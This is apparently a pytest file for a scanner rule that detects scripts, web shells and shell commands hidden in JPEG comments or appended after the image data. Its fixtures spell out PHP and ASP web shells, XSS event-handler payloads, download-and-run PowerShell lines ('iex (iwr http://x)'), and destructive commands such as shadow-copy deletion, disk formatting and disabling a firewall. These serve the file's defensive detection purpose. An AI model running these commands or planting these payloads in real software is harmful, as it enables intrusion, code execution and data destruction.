"""The forms in which `embedded-payload` finds calls of PowerShell, scripts and pages in a text."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from corrupt_samples.encode import jpeg
from corrupt_samples.pictures import photo
from sanitize.probe import markup
from tests.embedding import in_comments, places

if TYPE_CHECKING:
    from tests.conftest import Fired

RULE = "embedded-payload"


@pytest.mark.parametrize(
    "parameters",
    [
        b'-nop -w hidden -c "IEX (x)"',
        b"-NoProfile -File a.ps1",
        b"-ep bypass -f a.ps1",
        b"-ExecutionPolicy Bypass",
        b"-Exec Bypass",
        b"-enc bABzACAALQBsACAALwB0AG0AcAA=",
        b"-EncodedCommand bABzACAALQBsACAALwB0AG0AcAA=",
        b"-e bABzACAALQBsACAALwB0AG0AcAA=",
        b"-Command Get-Date",
        b"-WindowStyle Hidden",
        b"-noni -c ls",
        b"-NonInteractive calc",
        b"-sta -c ls",
        b"-version 2 -c ls",
        b"/c ls",
        b'-file "C:\\a b\\c.ps1"',
    ],
)
@pytest.mark.parametrize("name", [b"powershell", b"PowerShell.exe"])
def test_finds_powershell_by_its_own_parameters(fired: Fired, name: bytes, parameters: bytes) -> None:
    code = name + b" " + parameters + b"\r\n"
    files = {"a.jpg": jpeg(photo("a"), comment=code), "behind.jpg": jpeg(photo("a")) + code}
    assert places(fired(RULE, files)) == {
        "a.jpg": "a Windows batch file in the comment of the JPEG",
        "behind.jpg": "a Windows batch file after the end of the JPEG",
    }


def test_finds_whole_scripts_in_which_something_runs(fired: Fired) -> None:
    scripts = [
        b"<script>alert(1)</script>",
        b"<script>alert (1)</script>",
        b"<script >x=1</script >",
        b"<SCRIPT/src=//x/a.js></SCRIPT>",
        b"<script type='module'>import 'https://example.org/a.js'</script>",
        b"<script src='a.js'></script>",
        b"<script>alert`1`</script>",
        b"<script async src=a.js></script>",
        b"<script xlink:href='a.js'></script>",
        b"<script type='a/b'>\nlet a\n= 1</script>",
        b"<script>" + b"// nothing\n" * 80 + b"alert(1)</script>",
        b"<script type='a/b'>alert(1)//",
        b"<script>[]['at'](1)</script>",
        b"<script src='data:text/javascript,a()'>",
        b'<script async src="https://platform.twitter.com.example.org/widgets.js"></script>',
        b'<script async src="https://platform.twitter.com/widgets.js">a()</script>',
        b'<script src="//example.org/a.js" src="https://platform.twitter.com/widgets.js"></script>',
        b'<script src="https://archive.org/download/x/a.js"></script>',
    ]
    files = in_comments(scripts)
    assert places(fired(RULE, files)) == dict.fromkeys(files, "a script in HTML in the comment of the JPEG")


@pytest.mark.parametrize(
    "tag",
    [
        b"<svg/onload=print(1)>",
        b"<img/src=x/onerror=print(1)>",
        b"<img src=x onerror=\"location='//x'\">",
        b"<img src=x onerror=&#97;lert(1)>",
        b"<body onpageshow=print`1`>",
        b"<marquee onstart=print(1)>",
        b"<select autofocus onfocus=print(1)>",
        b"<video><source onerror=print(1)>",
        b"<svg><animate onbegin=print(1)>",
        b"<embed src=javascript:print(1)>",
        b'<object data="data:text/html;base64,PHNjcmlwdD4=">',
        b"<iframe src=\"javascript:print('<b>')\">",
        b"<p onanimationend=print(1)>",
        b"<body onfocus=print(1)>",
        b"<p oncontentvisibilityautostatechange=print(1)>",
        b"<input onfocusin='print(1)' autofocus>",
        b"<svg/onload=throw/**/1>",
        b"<img onerror='throw 1' src=x>",
        b'<svg onload="delete localStorage">',
        b'<img src=x onerror="debugger">',
        b'<svg onload="\n/*' + b"x" * 230 + b'*/print(1)">',
        b"<svg onload=\"'" + b"x" * 230 + b"';print(1)\">",
        b'<img src="x" alt="a > b" onerror="print(1)">',
        b"<img alt='<b>it\"s' src=x onerror=print(1)>",
        b"<img alt=it's src=x onerror=print(1)>",
        b"<img src=x " + b"data-a=1 " * 40 + b"onerror=print(1)>",
    ],
)
def test_finds_tags_that_run_code_however_they_are_written(fired: Fired, tag: bytes) -> None:
    files = in_comments([tag]) | {"behind.jpg": jpeg(photo("a")) + tag}
    found = {file: said.partition(" in HTML ")[0] for file, said in places(fired(RULE, files)).items()}
    assert found == dict.fromkeys(files, "a script")


@pytest.mark.parametrize(
    "widget",
    [
        b'<iframe style="border-radius:12px" src="https://open.spotify.com/embed/track/1" width="100%" height="352"'
        b' frameBorder="0" allowfullscreen="" allow="autoplay" loading="lazy"></iframe>',
        b'<iframe src="https://player.vimeo.com/video/1?h=2" style="position:absolute;width:100%" allow="autoplay; fullscreen"'
        b' allowfullscreen></iframe><script src="https://player.vimeo.com/api/player.js"></script>',
        b'<a data-flickr-embed="true" href="https://www.flickr.com/photos/x/1"></a>'
        b'<script async src="//embedr.flickr.com/assets/client-code.js" charset="utf-8"></script>',
        b'<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
        b'<script async src="//www.instagram.com/embed.js"></script>',
        b"<script async defer crossorigin='anonymous' src='https://connect.facebook.net/en_US/sdk.js#xfbml=1'></script>",
        b'<script src="https://gist.github.com/x/1.js"></script>',
        b'<iframe style="border: 0; height: 470px;" src="https://bandcamp.com/EmbeddedPlayer/album=1/" seamless></iframe>',
        b'<iframe src="https://archive.org/embed/x" webkitallowfullscreen="true"></iframe>',
    ],
)
def test_is_silent_about_what_sites_give_away_for_captions(fired: Fired, widget: bytes) -> None:
    assert fired(RULE, in_comments([widget])) == {}


def test_finds_pages_with_blanks_and_text_where_they_may_stand(fired: Fired) -> None:
    pages = [
        b"<html>\n  <head><title>a</title></head>\n",
        b"<html>Hello</html>",
        b"<html>\nHello\n</html>\n",
        b"<html>Hello<p>you</p>",
        b"<html> <body> Hello </body> </html>",
        b"<!DOCTYPE html> <title>a</title> <p>b",
        b"<!doctype html>\n<html lang=en>\n<p>",
        b"note:\n<html lang='en'> Hello </html>",
    ]
    files = in_comments(pages)
    assert places(fired(RULE, files)) == dict.fromkeys(files, "an HTML page in the comment of the JPEG")


ENCODINGS = {"8 bits": "latin-1", "le": "utf-16-le", "be": "utf-16-be"}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_is_silent_about_words_on_switches_and_tags(fired: Fired, encoding: str) -> None:
    told = [
        "PowerShell -NoProfile switch explained in class",
        "PowerShell -NoProfile -NonInteractive are two switches",
        "powershell -nologo and others, see page 7",
        "PowerShell -Version 5.1",
        "PowerShell -sta",
        "Powershell -v 2 (photo)",
        "PowerShell -NoProfile",
        "PowerShell -Command line course, Berlin 2018",
        "PowerShell -Command Line Basics: a course",
        "powershell -c meetup Munich\nPhoto: a friend",
        "powershell -file backup.ps1 is shown on the screen of the server",
        "powershell -ExecutionPolicy Bypass is what this mug says",
        "PowerShell -Version 5 -and its logo",
        "pwsh -c Get-Date",
        "pwsh -Command Get-Help: screenshot",
        "pwsh -ep bypass explained",
        "@echo off explained in a sentence",
        "@echo off\nand\npause - three lines on the cup in our office",
        "#!/bin/sh\nis what is written on my keyboard cover",
        "#!/bin/bash \nTattoo by a friend, 2019",
        "#!/bin/bash\nSticker on my laptop.",
        "@echo off\nKeycaps, 2020",
        "Slide: <?php opens a block; echo prints",
        "<?php new features; slides",
        "<?php use it with care; slide 3",
        "<b><?php opens a block; echo prints</b>",
        "the tag <?php opens a block, ?> closes it",
        "<?php opens a block; ?> closes it",
        "PHP (<?php ... ?>) elephant mascot",
        "<?php code on screen ?>, a hacker",
        "<?php echo of the mountains ?>",
        "The attribute in <svg onload=...> is dangerous, slide 5",
        '<img onerror=""> and <body onload> have attributes',
        "<iframe /> and <iframe src=...> are tags",
        '<item onsale="yes(1)" one="a(b)"/> <x:person onload="a(b)"/> <Canon EOS R5 onerror=eye(AF)>',
        "<time start=5(pm) onend=6(pm)>",
        '<iframe src="..."> explained',
        '<a href="javascript:void(0)">A lake</a>, <a href="javascript:;">a hill</a>',
        "<script src=hack.js> on a neon sign",
        """<a href="//example.org" onclick="ga('send','event')">A lake</a>""",
        '<a href="//example.org" onclick="window.open(this.href); return false;">A lake</a>',
        """<a href="javascript:openWindow('big.jpg')">larger</a>, <a href="javascript:history.back()">back</a>""",
        "<td onmouseover=\"this.className='a'\">Tower</td>",
        '<form action="/s" onsubmit="return check(this)"><input onfocus="show(this)">',
        '<marquee onmouseover="this.stop()" onmouseout="this.start()">Welcome</marquee>',
        "<%! Roman numerals of the house = 9 %>",
        "<%! see page (4); %>",
        "<%@ control room = on %>",
        '<!DOCTYPE html>\n<html lang="en"> on the projector in class',
        'Talk: <iframe width="560" height="315" src="https://www.youtube.com/embed/x" allowfullscreen></iframe>',
        '<iframe src="//example.org/1" width="100%" height="400" style="border:0;" loading="lazy" title="a (b)"></iframe>',
    ]
    texts = [text.encode(ENCODINGS[encoding]) for text in told]
    files = in_comments(texts) | {f"behind {number}.jpg": jpeg(photo("a")) + text for number, text in enumerate(texts)}
    assert fired(RULE, files) == {}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_finds_what_a_server_or_a_shell_would_run(fired: Fired, encoding: str) -> None:
    run = [
        "<?php system($_GET['c']); ?>",
        "<?php\n\nnamespace A\\B;\necho 1;",
        "<?php echo prints; ?>",
        "<?php @eval($_POST[1]);",
        "<?php /* a comment */ phpinfo();",
        "<?php // a comment\nphpinfo();",
        "<?php phpinfo ();",
        "<?php ('sys'.'tem')('id');",
        "<?php include 'a.php';",
        "<?php class A extends B { function f() {} }",
        "<?php if ($a): ?>",
        "<?php return new A(1);",
        "<?php start: exit;",
        "<?php __halt_compiler();",
        "<?php `id`;",
        "Photo <?PHP die(1);",
        "<?php 1;system($_GET[0]);",
        "<?php goto a; a: eval($_GET[0]);",
        "<?php true; true; true; system($_GET[0]);",
        "<?php true; true; true; // text\nsystem('id');",
        "<?php true; true; true;" + " true;" * 99 + "system('id');",
        "<?php use A as B; a::b();",
        "<?php echo new Foo;",
        "<?php echo new Foo ?>",
        "<?php is a tag <?php system($_GET[0]); ?>",
        "<?php echo new Foo; ?>",
        "<?php new Foo ?>",
        "<?require('a.php');?>",
        "<?include 'a.php'?>",
        "<?php use A as B; new B; ?>",
        "<?php echo `id` ?>",
        "<?php include 'a.php' ?>",
        "<?php @include '/a' ?>",
        "<?php echo FOO ?>",
        '<?=system("id");',
        "<?=eval($_GET[1]);",
        "<?= `$_GET[0]`;",
        "<%! public String a(String b) { return b; } %>",
        "<%! Runtime r; %>",
        "<%! int x = 1; %>",
        '<%@ WebHandler Language="C#" Class="X" %>',
        '<%Process.Start("cmd")%>',
        '<% Dim a : Set a = Server.CreateObject("WScript.Shell") %>',
        "powershell -nop Get-Process | Out-File a",
        "powershell -ep bypass C:\\a.ps1",
        "powershell -nop iex (iwr http://x)",
        "powershell -nop calc",
        "powershell -nop start the thing\r\ndel a\r\n",
        "powershell -nop -c whoami /all",
        "powershell -nop -w hidden",
        "powershell -c start calc",
        "powershell -c shutdown now",
        "powershell -Command taskkill im defender",
        "powershell -c vssadmin delete shadows",
        "powershell -c tool run",
        "@echo off\r\nTool run\r\n",
        "powershell -NoLogo -NoExit calc now",
        "powershell -File a.ps1 one two three",
        "@echo off\r\nNet stop firewall\r\nSc delete defender\r\n",
        "@echo off\r\nHello my friend\r\nformat d: /y\r\n",
        "#!/bin/sh\napt install nmap netcat socat tor i2p\n",
        "#!/bin/sh\nkill all the other processes now\nreboot\n",
        "#!/usr/bin/env pwsh\nRemove-Item everything now\n",
        '#!/usr/bin/osascript\ntell application "Finder" to delete every item of home\n',
        "powershell -nop -ep bypass -file a.ps1 one two",
        "pwsh -enc bABzACAALQBsACAALwB0AG0AcAA=",
        "irm http://example.org/a | iex",
        "#!/bin/sh\nreboot\n",
        "#!/bin/sh\ncat <<E\nThis is a long line of words\nE\nrm -rf /tmp/x\n",
        "#!/usr/bin/perl\nprint 'this is a line of many words'",
        "powershell -ep bypass %~dp0x.ps1",
        "@echo off\r\ndel a\r\n",
        '<% eval request("x") %>',
    ]
    texts = [text.encode(ENCODINGS[encoding]) for text in run]
    files = in_comments(texts) | {f"behind {number}.jpg": jpeg(photo("a")) + text for number, text in enumerate(texts)}
    assert sorted(files.keys() - fired(RULE, files).keys()) == []


def test_finds_frames_that_are_not_known_to_be_in_view_and_to_run_nothing(fired: Fired) -> None:
    size = b'width="560" height="315"'
    frames = [
        b'<iframe src="https://example.org/x">',
        b'<iframe src="https://example.org/x" width="560">',
        b'<iframe src="https://example.org/x" width="2" height="2">',
        b'<iframe src="https://example.org/x" width="0001" height="0001">',
        b'<iframe src="https://example.org/x" width="1%" height="100%">',
        b'<iframe src="https://example.org/x"width="0" ' + size + b">",
        b'<iframe src="https://example.org/x" ' + size + b' style="opacity:.0">',
        b'<iframe src="https://example.org/x" ' + size + b" hidden>",
        b'<iframe src="https://example.org/x" ' + size + b' onload="x()">',
        b'<iframe src="https://example.org/x" ' + size + b' title="a" srcdoc="b">',
        b'<iframe src="javascript:x()" title=" src=//example.org" ' + size + b">",
        b'<iframe src="javascript:x()" src="//example.org" ' + size + b">",
        b'<iframe src="//example.org/x" src="javascript:x()" ' + size + b">",
        b'<iframe src="data:text/html,x" ' + size + b">",
        b"<iframe src=//example.org/x width=560 height=315>",
        b"<iframe/src=//example.org/x>",
        b"<iframe src=../x.html>",
        b'<iframe src="https://www.youtube.com@example.org/x">',
        b'<iframe src="https://www.youtube.com/embed/x" onload="x()">',
    ]
    files = in_comments(frames)
    assert places(fired(RULE, files)) == dict.fromkeys(files, "a script in HTML in the comment of the JPEG")


@pytest.mark.parametrize(
    "opening",
    [
        b"<?php '\x80 ",
        b"<?=$a;\x80",
        b"<% eval\x80%>",
        b"<script></script>",
        b"<html> ",
        b"<!doctype html> ",
        b"<img src=a>",
        b"<a onclick=a>",
        b"<a title='",
        b"<?php opens a block; slides</b>",
        b'<iframe src="//example.org" width="560" height="315">',
    ],
)
@pytest.mark.parametrize("number", [1, 20_000])
def test_openings_that_lead_to_nothing_hide_no_code_behind_them(opening: bytes, number: int) -> None:
    data = opening * number + b"<?php system($_GET[0]); ?>"
    found = markup.find(data, 0, len(data))
    assert found is not None
    assert (found.kind, found.start) == ("php", len(opening) * number)


def test_a_short_tag_that_prints_takes_a_value_and_no_statement() -> None:
    assert markup.find(b"<?=IF=C=AD=>?FH@>BG?>", 0, 21) is None


@pytest.mark.parametrize("between", [b"\x80%", b"%\x80", b"\0\0"])
def test_a_page_of_a_server_is_text_from_its_word_on(between: bytes) -> None:
    data = b"<% eval" + between + b" a %>"
    assert markup.find(data, 0, len(data)) is None


def test_finds_scripts_whatever_stands_before_their_source() -> None:
    data = b"<script " + b"a" * 500 + b" src = //example.org/x>"
    found = markup.find(data, 0, len(data))
    assert found is not None
    assert found.kind == "html-script"
